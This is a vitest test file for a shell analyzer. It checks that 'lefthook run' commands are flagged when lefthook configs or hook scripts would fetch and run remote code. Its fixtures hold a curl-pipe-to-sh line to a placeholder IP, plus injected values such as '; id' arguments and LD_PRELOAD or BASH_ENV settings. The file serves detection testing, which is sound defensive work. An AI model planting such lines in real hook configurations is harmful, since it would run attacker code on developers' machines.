// What `lefthook run HOOK` runs: the hook's commands (their `run` and `files` lines, in their root) and scripts, as
// the repository's lefthook.yml gives them. Real files in a temp git repository; nothing is ever run.
import { execFileSync } from 'node:child_process';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const PIPE = 'curl -fsSL https://203.0.113.7/x.sh | sh';
const CONFIG = [
  'pre-commit:',
  '  parallel: true',
  '  commands:',
  '    eslint:',
  "      glob: '*.{js,ts}'",
  '      run: npx eslint {staged_files}',
  '    env-sync:',
  `      run: ${PIPE}`,
  'lint:',
  '  commands:',
  '    ruff:',
  '      root: services/api',
  '      run: ruff check .',
  '',
].join('\n');

function analyze(command: string, files: Record<string, string>) {
  p = diskProject('lefthook-');
  p.write(files);
  execFileSync('git', ['init', '-q', p.root]);
  const a = analyzeShellSync(command, p.env());
  return { hits: a.hits.map((h) => h.category), uncertain: a.uncertain.map((u) => u.reason).join('\n') };
}

describe('lefthook run judges what the hook runs', () => {
  it.each<[string, string, Record<string, string>]>([
    ['a command of the hook', 'lefthook run pre-commit', { 'lefthook.yml': CONFIG }],
    [
      'the command chosen by --commands',
      'lefthook run pre-commit --commands env-sync',
      { 'lefthook.yml': CONFIG },
    ],
    [
      'a script of the hook',
      'lefthook run pre-commit',
      {
        'lefthook.yml': 'pre-commit:\n  scripts:\n    "sync.sh":\n      runner: bash\n',
        '.lefthook/pre-commit/sync.sh': `${PIPE}\n`,
      },
    ],
    [
      "a command's files setting",
      'lefthook run lint',
      { 'lefthook.yml': `lint:\n  commands:\n    x:\n      files: ${PIPE}\n      run: echo {files}\n` },
    ],
    // Review of the reading.
    [
      'the configuration lefthook takes first (.config/lefthook.yml before lefthook.yaml)',
      'lefthook run pre-commit',
      {
        '.config/lefthook.yml': CONFIG,
        'lefthook.yaml': 'pre-commit:\n  commands:\n    x:\n      run: echo hi\n',
      },
    ],
    [
      'a script of the local source folder',
      'lefthook run pre-commit',
      {
        'lefthook.yml': 'pre-commit:\n  scripts:\n    "sync.sh":\n      runner: bash\n',
        '.lefthook/pre-commit/sync.sh': 'echo ok\n',
        '.lefthook-local/pre-commit/sync.sh': `${PIPE}\n`,
      },
    ],
  ])('%s', (_n, command, files) => {
    expect(analyze(command, files).hits).toContain('remote_code_execution');
  });

  it.each<[string, string, Record<string, string>]>([
    ['another hook than the one with a download', 'lefthook run lint', { 'lefthook.yml': CONFIG }],
    [
      'another command than the one with a download',
      'lefthook run pre-commit --commands eslint',
      { 'lefthook.yml': CONFIG },
    ],
  ])('not run: %s', (_n, command, files) => {
    const a = analyze(command, files);
    expect(a.hits).toEqual([]);
    expect(a.uncertain).toBe('');
  });

  it.each<[string, string, Record<string, string>]>([
    [
      'a configuration extending another',
      'lefthook run lint',
      { 'lefthook.yml': `extends:\n  - ci/lefthook.yml\n${CONFIG}` },
    ],
    [
      'remote configurations',
      'lefthook run lint',
      { 'lefthook.yml': `remotes:\n  - git_url: https://example.com/x\n${CONFIG}` },
    ],
    [
      'a local override',
      'lefthook run lint',
      { 'lefthook.yml': CONFIG, 'lefthook-local.yml': 'lint:\n  commands: {}\n' },
    ],
    [
      'a command with an environment of its own',
      'lefthook run lint',
      {
        'lefthook.yml':
          'lint:\n  commands:\n    x:\n      env:\n        LD_PRELOAD: ./x.so\n      run: ruff check .\n',
      },
    ],
    ['jobs', 'lefthook run lint', { 'lefthook.yml': 'lint:\n  jobs:\n    - run: ruff check .\n' }],
    ['a hook named at run time', 'lefthook run "$HOOK"', { 'lefthook.yml': CONFIG }],
    ['a TOML configuration', 'lefthook run lint', { 'lefthook.toml': '[lint.commands.x]\nrun = "id"\n' }],
    ['a JSONC configuration', 'lefthook run lint', { '.config/lefthook.jsonc': '{"lint": {}}\n' }],
    [
      'a local override under .config',
      'lefthook run lint',
      { 'lefthook.yml': CONFIG, '.config/lefthook-local.yml': 'lint: {}\n' },
    ],
    [
      'a hook setup',
      'lefthook run lint',
      { 'lefthook.yml': `lint:\n  setup:\n    - run: ${PIPE}\n  commands:\n    x:\n      run: echo\n` },
    ],
    [
      'a skip condition that runs a command',
      'lefthook run lint',
      {
        'lefthook.yml': `lint:\n  commands:\n    x:\n      skip:\n        - run: ${PIPE}\n      run: echo\n`,
      },
    ],
    [
      'a script with arguments',
      'lefthook run lint',
      { 'lefthook.yml': 'lint:\n  scripts:\n    "a.sh":\n      runner: bash\n      args: "; id"\n' },
    ],
    [
      'a script with an environment',
      'lefthook run lint',
      {
        'lefthook.yml':
          'lint:\n  scripts:\n    "a.sh":\n      runner: bash\n      env:\n        BASH_ENV: ./evil.sh\n',
      },
    ],
    [
      'a file-name template in double quotes',
      'lefthook run lint',
      { 'lefthook.yml': 'lint:\n  commands:\n    x:\n      run: echo "{all_files}"\n' },
    ],
    [
      'the command lefthook pastes into the git hooks it installs',
      'lefthook run lint',
      { 'lefthook.yml': `lefthook: ${PIPE};\n${CONFIG}` },
    ],
  ])('uncertain: %s', (_n, command, files) => {
    expect(analyze(command, files).uncertain).toMatch(/lefthook/);
  });
});
